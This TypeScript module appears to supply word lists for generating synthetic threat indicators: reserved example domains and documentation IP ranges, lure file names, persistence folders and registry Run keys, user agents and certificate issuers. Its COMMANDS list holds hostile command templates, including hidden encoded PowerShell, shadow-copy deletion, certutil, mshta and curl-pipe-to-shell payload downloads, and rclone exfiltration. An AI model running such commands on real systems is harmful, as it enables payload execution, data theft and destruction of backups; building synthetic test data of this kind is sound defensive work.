/** What made-up values are made of; names and networks reserved for examples. */
/** Networks that are reserved for documentation (RFC 5737). */
export const TEST_NETS = ["192.0.2", "198.51.100", "203.0.113"];

/** Names that are reserved for documentation (RFC 2606, RFC 6761). */
export const ZONES = [
  "example",
  "example",
  "example.com",
  "example.net",
  "example.org",
];

/** First words of domain names. */
export const FIRST_WORDS = [
  "account",
  "archive",
  "billing",
  "cdn",
  "cloud",
  "customs",
  "delivery",
  "docs",
  "edge",
  "files",
  "gateway",
  "invoice",
  "login",
  "mail",
  "media",
  "meeting",
  "mfa",
  "news",
  "office",
  "parcel",
  "payroll",
  "portal",
  "public",
  "relay",
  "secure",
  "share",
  "sso",
  "static",
  "support",
  "survey",
  "sync",
  "telemetry",
  "tender",
  "ticket",
  "update",
  "vpn",
  "webmail",
  "wiki",
];

/** Second words of domain names. */
export const SECOND_WORDS = [
  "access",
  "assets",
  "backup",
  "board",
  "cache",
  "center",
  "check",
  "connect",
  "desk",
  "drive",
  "exchange",
  "hub",
  "id",
  "info",
  "labs",
  "line",
  "link",
  "node",
  "online",
  "panel",
  "pilot",
  "point",
  "room",
  "service",
  "stats",
  "storage",
  "stream",
  "team",
  "track",
  "transfer",
  "verify",
  "view",
  "zone",
];

/** Paths of URLs. */
export const URL_PATHS = [
  "api/v2/checkin",
  "assets/jquery-3.7.min.js",
  "cgi-bin/status",
  "dl/setup.msi",
  "docs/tender_2231.docx",
  "gate.php",
  "images/logo_small.png",
  "index.php",
  "login/microsoft/common/oauth2",
  "news/feed.xml",
  "owa/auth/logon.aspx",
  "panel/task",
  "remote/fgt_lang",
  "s/invoice.html",
  "submit.php",
  "sync/upload",
  "update/manifest.json",
  "wp-content/plugins/seo/cache.php",
];

/** Queries of URLs. */
export const QUERIES = [
  "",
  "",
  "",
  "?id=",
  "?act=report&hwid=",
  "?token=",
  "?session=",
  "?c=",
  "#",
];

/** File names without ending. */
export const FILE_STEMS = [
  "AdobeSync",
  "AgendaAnnex",
  "BackupAgent",
  "Contract_signed",
  "DriverSetup",
  "Invitation",
  "Invoice",
  "MeetingNotes",
  "OneDriveHelper",
  "Payslip",
  "PolicyUpdate",
  "PrintSpool",
  "Quotation",
  "Scan",
  "ServiceHost",
  "Statement",
  "TeamsUpdate",
  "Tender",
  "VpnClient",
  "WinLogonHelper",
  "libcurl",
  "version",
  "msedge_elf",
  "wlbsctrl",
];

/** Endings of file names. */
export const FILE_ENDINGS = [
  "exe",
  "dll",
  "docm",
  "xlsm",
  "lnk",
  "iso",
  "js",
  "vbs",
  "hta",
  "ps1",
  "msi",
  "pdf",
  "img",
  "bat",
  "sys",
];

/** Folders that files lie in. */
export const FOLDERS = [
  "C:\\ProgramData\\",
  "C:\\Users\\Public\\Libraries\\",
  "C:\\Windows\\Temp\\",
  "C:\\Windows\\Tasks\\",
  "C:\\PerfLogs\\",
  "/var/tmp/.",
  "/dev/shm/.",
  "/usr/lib/systemd/.",
  "C:\\Users\\Public\\Documents\\",
];

/** Registry keys that start programs. */
export const RUN_KEYS = [
  "HKEY_CURRENT_USER\\Software\\Microsoft\\Windows\\CurrentVersion\\Run",
  "HKEY_LOCAL_MACHINE\\SOFTWARE\\Microsoft\\Windows\\CurrentVersion\\RunOnce",
  "HKEY_LOCAL_MACHINE\\SYSTEM\\CurrentControlSet\\Services\\",
  "HKEY_CURRENT_USER\\Software\\Classes\\CLSID\\",
  "HKEY_LOCAL_MACHINE\\SOFTWARE\\Microsoft\\Windows NT\\CurrentVersion\\Winlogon\\",
];

/** User agents. */
export const BROWSERS = [
  "Mozilla/5.0 (Windows NT 10.0; Win64; x64) AppleWebKit/537.36 (KHTML, like Gecko) Edge/",
  "Mozilla/4.0 (compatible; MSIE 8.0; Windows NT 6.1; Trident/4.0) build/",
  "Mozilla/5.0 (X11; Linux x86_64; rv:91.0) Gecko/20100101 Firefox/91.",
  "python-requests/2.",
  "curl/7.",
  "Go-http-client/1.1 r",
  "WinHTTP Loader/",
];

/** Names of accounts. */
export const PERSON_NAMES = [
  "a.keller",
  "billing",
  "c.moreau",
  "d.silva",
  "hr",
  "j.lindqvist",
  "k.novak",
  "legal",
  "m.okafor",
  "noreply",
  "p.rossi",
  "procurement",
  "r.haddad",
  "security-alert",
  "t.yamada",
  "visa.section",
];

/** Issuers of certificates. */
export const ISSUERS = [
  "CN=Example Trust RSA CA 2, O=Example Trust, C=XX",
  "CN=Test Code Signing CA R3, O=Test Authority, C=XX",
  "CN=localhost",
  "CN=Internal Issuing CA 01, O=Example Corp, C=XX",
];

/** Command lines. */
export const COMMANDS = [
  "powershell.exe -NoP -W Hidden -Enc ",
  "cmd.exe /c vssadmin delete shadows /all /quiet & echo ",
  "rundll32.exe C:\\ProgramData\\{stem}.dll,Start ",
  "schtasks.exe /create /sc onlogon /ru SYSTEM /tn {stem} /tr ",
  "mshta.exe http://{domain}/",
  "certutil.exe -urlcache -split -f http://{domain}/",
  "regsvr32.exe /s /u /i:http://{domain}/a.sct scrobj.dll ",
  "rclone.exe copy D:\\Shares remote:",
  "/bin/sh -c 'curl -fsSL http://{domain}/i.sh | sh' #",
  "wmic.exe /node:{ip} process call create ",
];
